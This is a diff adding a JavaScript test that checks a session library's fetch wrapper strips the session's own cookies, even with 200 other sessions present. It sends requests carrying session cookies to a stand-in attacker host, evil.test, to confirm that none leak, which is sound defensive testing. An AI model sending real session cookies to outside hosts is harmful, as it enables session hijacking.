@@ -65,6 +65,27 @@ test('A7: session.fetch never sends the session’s cookies, whatever the addres
   }
 })
 
+test('A7: session.fetch removes the session’s own cookies, however many other sessions the isolate has', async (t) => {
+  const asked = []
+  const stage = await setStage(t, {
+    cookie: { name: 'first' },
+    fetch: async (input, init) => {
+      if (String(input.url ?? input).startsWith('http://127')) return fetch(input, init)
+      asked.push(new Headers(init?.headers ?? input.headers).get('cookie'))
+      return new Response('ok')
+    },
+  })
+  await stage.signIn()
+  const cookie = `a=1; ${stage.browser.request('/').headers.get('cookie')}`
+  for (let count = 0; count < 200; count += 1) createSessions({ ...stage.settings, cookie: { name: `tenant${count}` } })
+  await stage.browser.with(async (session) => {
+    await session.fetch(new Request('https://evil.test/', { headers: { cookie } }))
+    await session.fetch('https://evil.test/', { headers: { cookie: `${cookie}; __Host-tenant199=x` } })
+    return new Response('done')
+  })
+  assert.deepEqual(asked, ['a=1', 'a=1'])
+})
+
 test('A9: the address that was checked for a token is the one that gets it', async (t) => {
   const asked = []
   const stage = await setStage(t, {
